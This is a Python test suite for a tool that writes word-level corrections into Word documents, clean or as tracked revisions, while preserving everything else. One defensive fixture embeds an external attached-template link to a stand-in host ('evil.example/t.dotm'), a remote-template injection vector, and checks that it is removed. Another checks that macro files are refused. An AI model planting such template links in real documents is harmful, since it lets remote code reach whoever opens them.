"""Corrections in the very Word file: the words are the corrected ones, and everything else is as it was."""

import io
import shutil
import subprocess
import zipfile
from collections.abc import Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any

import docx
import pytest
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree
from openxml_audit import OpenXmlValidator

from drafter.documents import read_data
from drafter.exports.difference import Stamp, changes
from drafter.exports.docx.xml import W
from drafter.exports.original.word import Change, Corrected, corrected_docx
from drafter.model import Document, DrafterError

LI = Stamp("李", "2025-11-21T10:00:00Z")
PICTURE = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360606060000000050001"
    "a5f645400000000049454e44ae426082"
)


def made() -> bytes:
    """A plan with what plans have: parts of a line in bold, a raised figure, a link, a table, a picture, a header."""
    file: Any = docx.Document()
    file.add_heading("Clean Air Plan", 1)
    first = file.add_paragraph("By 2025, ")
    first.add_run("PM").bold = True
    low = first.add_run("2.5")
    low.bold = True
    low.font.subscript = True
    first.add_run(" falls by 10%.")
    second = file.add_paragraph("See the ")
    second._p.append(
        parse_xml(f'<w:hyperlink {nsdecls("w")} w:anchor="a"><w:r><w:t>rules of the city</w:t></w:r></w:hyperlink>')
    )
    second.add_run(" for more.\tAnd so on.")
    third = file.add_paragraph("A picture ")
    third.add_run().add_picture(io.BytesIO(PICTURE))
    third.add_run(" stands here.")
    table = file.add_table(2, 2)
    for row, words in enumerate((("Boiler", "Count"), ("Coal", "12"))):
        for column, word in enumerate(words):
            table.cell(row, column).text = word
    file.add_paragraph("One line\nand another.")
    file.sections[0].header.paragraphs[0].text = "Header"
    out = io.BytesIO()
    file.save(out)
    return out.getvalue()


@pytest.fixture(scope="module")
def document() -> Document:
    return read_data(made(), "plan.docx")


def texts(document: Document) -> list[str]:
    return [paragraph.text for paragraph in document.paragraphs]


def put_in(document: Document, wanted: Sequence[str], *, tracked: bool = False) -> Corrected:
    ways = [
        Change(index, tuple(one if one.kind == "equal" else replace(one, stamp=LI) for one in changes(old, new)))
        for index, (old, new) in enumerate(zip(texts(document), wanted, strict=True))
        if old != new
    ]
    return corrected_docx(document, ways, tracked=tracked)


def parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.testzip() is None
        return {name: archive.read(name) for name in archive.namelist()}


def body(data: bytes) -> etree._Element:
    return etree.fromstring(parts(data)["word/document.xml"])


def faults(data: bytes, path: Path) -> int:
    path.write_bytes(data)
    return len(OpenXmlValidator().validate(str(path)).errors)


CASES = [
    ("By 2025, PM2.5", "2.5"),
    ("falls by 10%", "falls by 20 percent"),
    ("By 2025, PM2.5 falls", "By 2030, PM10 drops"),
    ("PM2.5", "the level of PM2.5 in the air"),
    ("10%.", "10%. And more"),
    ("By 2025", "Till then by 2025"),
    ("rules of the city for", "rules of the province for"),
    ("See the rules", "Look at rules"),
    ("more.\tAnd", "more. And"),
    ("for more", "for\tmore"),
    ("picture  stands", "photograph stands"),
    ("Coal", "Coal-fired, old"),
    ("line\nand", "line and"),
    ("another.", "another.\nA third."),
    ("Clean Air Plan", ""),
    ("Count", "Number 𫚖"),
]


@pytest.mark.parametrize(("old", "new"), CASES, ids=[old for old, _ in CASES])
@pytest.mark.parametrize("tracked", [False, True], ids=["clean", "tracked"])
def test_what_is_corrected_and_what_stays(
    document: Document, old: str, new: str, tracked: bool, tmp_path: Path
) -> None:
    wanted = [text.replace(old, new) for text in texts(document)]
    assert wanted != texts(document)
    result = put_in(document, wanted, tracked=tracked)
    assert (result.changed, result.left, result.others) == (1, (), False)
    assert texts(read_data(result.data, "plan.docx")) == wanted
    if tracked:
        assert texts(read_data(result.data, "plan.docx", view="original")) == texts(document)
    before, after = parts(document.data), parts(result.data)
    assert {name for name in before if before[name] != after[name]} == {"word/document.xml"}
    assert list(before) == list(after)
    assert faults(result.data, tmp_path / "new.docx") == faults(document.data, tmp_path / "old.docx")
    pictures = [len(list(body(data).iter("{*}drawing"))) for data in (document.data, result.data)]
    assert pictures == [1, 1]


def untouched(data: bytes, skip: str) -> list[bytes]:
    return [etree.tostring(one) for one in body(data).iter(f"{W}p") if skip not in "".join(map(str, one.itertext()))]


def test_other_paragraphs_keep_every_byte(document: Document) -> None:
    result = put_in(document, [text.replace("falls", "drops") for text in texts(document)])
    assert untouched(document.data, "falls") == untouched(result.data, "drops")


def look_of(data: bytes, words: str) -> tuple[bool, bool]:
    """Whether the run that holds some words is bold, and whether it is lowered."""
    for run in body(data).iter(f"{W}r"):
        if words in "".join(one.text or "" for one in run.iter(f"{W}t")):
            return run.find(f".//{W}b") is not None, run.find(f".//{W}vertAlign") is not None
    raise AssertionError(words)


def test_new_words_look_like_those_they_replace(document: Document) -> None:
    def look(old: str, new: str, words: str) -> tuple[bool, bool]:
        return look_of(put_in(document, [text.replace(old, new) for text in texts(document)]).data, words)

    assert look("PM", "Ozone ", "Ozone") == (True, False)
    assert look("2.5", "10", "10") == (True, True)
    assert look("falls", "drops", "drops") == (False, False)
    assert look("PM2.5 falls", "PM2.5 always falls", "always") == (False, False)


def test_words_behind_a_lowered_figure_stand_on_the_line(document: Document) -> None:
    wanted = [text.replace("PM2.5 ", "PM2.5-level ") for text in texts(document)]
    assert look_of(put_in(document, wanted).data, "-level")[1] is False


def test_revisions_bear_name_time_and_numbers_of_their_own(document: Document) -> None:
    result = put_in(document, [text.replace("e", "E") for text in texts(document)], tracked=True)
    found = list(body(result.data).iter(f"{W}ins", f"{W}del"))
    assert found
    assert {(one.get(f"{W}author"), one.get(f"{W}date")) for one in found} == {("李", "2025-11-21T10:00:00Z")}
    numbers = [one.get(f"{W}id") for one in found]
    assert len(set(numbers)) == len(numbers)
    assert not [one for one in body(result.data).iter(f"{W}t") if next(one.iterancestors(f"{W}del"), None) is not None]


def test_a_change_of_one_word_touches_one_word(document: Document) -> None:
    result = put_in(document, [text.replace("falls", "drops") for text in texts(document)], tracked=True)
    assert ["".join(map(str, one.itertext())) for one in body(result.data).iter(f"{W}del", f"{W}ins")] == [
        "falls",
        "drops",
    ]


def test_other_people_s_revisions_are_not_mixed_with_ours() -> None:
    file: Any = docx.Document(io.BytesIO(made()))
    about = f'{nsdecls("w")} w:id="9" w:author="X" w:date="2024-01-01T00:00:00Z"'
    file.paragraphs[1]._p.append(parse_xml(f"<w:ins {about}><w:r><w:t> More.</w:t></w:r></w:ins>"))
    out = io.BytesIO()
    file.save(out)
    theirs = read_data(out.getvalue(), "theirs.docx")
    wanted = [text.replace("More.", "Much more.") for text in texts(theirs)]
    with pytest.raises(DrafterError, match="accept or reject them in Word first"):
        put_in(theirs, wanted, tracked=True)
    clean = put_in(theirs, wanted)
    assert texts(read_data(clean.data, "theirs.docx")) == wanted
    assert clean.others


def test_a_place_that_no_run_holds_is_told() -> None:
    file: Any = docx.Document()
    file.add_paragraph("first", style="List Number")
    out = io.BytesIO()
    file.save(out)
    numbered = read_data(out.getvalue(), "numbered.docx")
    assert texts(numbered)[0].endswith("first")
    assert texts(numbered)[0] != "first"
    result = put_in(numbered, ["7) first"])
    assert (result.changed, result.left) == (0, (1,))
    fine = put_in(numbered, [texts(numbered)[0].replace("first", "second")])
    assert (fine.changed, fine.left) == (1, ())


def repacked(data: bytes, more: dict[str, bytes], **replaced: tuple[str, str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in {**parts(data), **more}.items():
            for old, new in replaced.values():
                content = content.replace(old.encode(), new.encode())
            archive.writestr(name, content)
    return out.getvalue()


def test_macros_and_the_strict_kind_are_refused() -> None:
    macros = read_data(repacked(made(), {"word/vbaProject.bin": b"x"}), "a.docx")
    with pytest.raises(DrafterError, match="holds macros"):
        put_in(macros, [text + "!" for text in texts(macros)])
    strict = repacked(
        made(),
        {},
        main=(
            "http://schemas.openxmlformats.org/wordprocessingml/2006/main",
            "http://purl.oclc.org/ooxml/wordprocessingml/main",
        ),
    )
    document = read_data(strict, "strict.docx")
    with pytest.raises(DrafterError, match="of the strict kind"):
        put_in(document, [text + "!" for text in texts(document)])


def test_a_signature_and_an_outside_template_do_not_stay() -> None:
    settings_part = parts(made())["word/settings.xml"].replace(
        b"</w:settings>",
        b'<w:attachedTemplate xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
        b'r:id="rId1"/></w:settings>',
    )
    relations = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    more = {
        "word/settings.xml": settings_part,
        "word/_rels/settings.xml.rels": relations,
        "_xmlsignatures/sig1.xml": b"<x/>",
    }
    document = read_data(repacked(made(), more), "signed.docx")
    result = put_in(document, [text.replace("falls", "drops") for text in texts(document)])
    after = parts(result.data)
    assert result.signed
    assert "_xmlsignatures/sig1.xml" not in after
    assert b"evil" not in b"".join(after.values())
    assert b"attachedTemplate" not in after["word/settings.xml"]


@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.data(), st.booleans())
def test_any_edit_of_any_paragraph(data: st.DataObject, tracked: bool) -> None:
    document = read_data(made(), "plan.docx")
    wanted = []
    for text in texts(document):
        start = data.draw(st.integers(0, len(text)))
        end = data.draw(st.integers(start, len(text)))
        new = data.draw(st.text("ab 1.2污染\t\n", max_size=6))
        wanted.append(text[:start] + new + text[end:])
    result = put_in(document, wanted, tracked=tracked)
    assert result.left == ()
    assert texts(read_data(result.data, "plan.docx")) == wanted
    if tracked:
        assert texts(read_data(result.data, "plan.docx", view="original")) == texts(document)


@pytest.mark.skipif(shutil.which("pandoc") is None, reason="needs pandoc")
def test_pandoc_sees_the_same(document: Document, tmp_path: Path) -> None:
    wanted = [text.replace("falls by 10%", "drops by 20%").replace("Coal", "Oil") for text in texts(document)]
    (tmp_path / "a.docx").write_bytes(put_in(document, wanted, tracked=True).data)
    (tmp_path / "clean.docx").write_bytes(put_in(document, wanted).data)
    (tmp_path / "old.docx").write_bytes(document.data)

    def view(name: str, kind: str) -> str:
        command = [
            "pandoc",
            "-f",
            "docx",
            "-t",
            "plain",
            "--wrap=none",
            f"--track-changes={kind}",
            str(tmp_path / name),
        ]
        return subprocess.run(command, capture_output=True, check=True).stdout.decode()

    assert view("a.docx", "accept") == view("clean.docx", "accept")
    assert view("a.docx", "reject") == view("old.docx", "accept")
